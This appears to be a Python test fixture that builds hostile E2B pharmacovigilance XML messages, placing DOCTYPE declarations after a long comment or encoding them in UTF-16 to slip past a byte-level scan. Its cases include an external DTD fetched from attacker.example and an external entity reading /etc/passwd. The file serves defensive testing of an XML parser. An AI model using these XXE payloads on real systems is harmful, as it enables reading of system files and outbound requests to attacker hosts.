"""E2B messages with a document type declaration hidden from a byte scan: placed after a long
comment, or encoded in UTF-16, each with an entity reference in the narrative."""

from __future__ import annotations

from factories.e2b import sample_message

NARRATIVE = "A 76-year-old man on warfarin started amiodarone and developed gum bleeding"


def hostile_message(declaration: str, *, encoding: str = "UTF-8", padding: int = 0) -> bytes:
    """The sample message with ``declaration`` before its root element, after ``padding``
    characters of comment, and the start of its narrative replaced by ``[&e;]``."""
    text = sample_message("ich").decode()
    text = text.replace(text[:text.index("?>") + 2],
                        f'<?xml version="1.0" encoding="{encoding}"?>')
    start = text.index("<MCCI_IN200100UV01")
    comment = f"<!--{'x' * padding}-->" if padding else ""
    text = text[:start] + comment + declaration + text[start:]
    assert NARRATIVE in text
    text = text.replace(NARRATIVE, "[&e;]")
    return text.encode(encoding.lower())


HOSTILE = {
    "doctype after 4 KiB of comment": hostile_message(
        '<!DOCTYPE MCCI_IN200100UV01 SYSTEM "http://attacker.example/x.dtd">', padding=5000),
    "UTF-16 with an entity": hostile_message(
        '<!DOCTYPE MCCI_IN200100UV01 [<!ENTITY e "injected">]>', encoding="UTF-16"),
    "UTF-16 with an external entity": hostile_message(
        '<!DOCTYPE MCCI_IN200100UV01 [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        encoding="UTF-16"),
    "internal subset after 4 KiB": hostile_message(
        '<!DOCTYPE MCCI_IN200100UV01 [<!ELEMENT x ANY>]>', padding=5000),
}
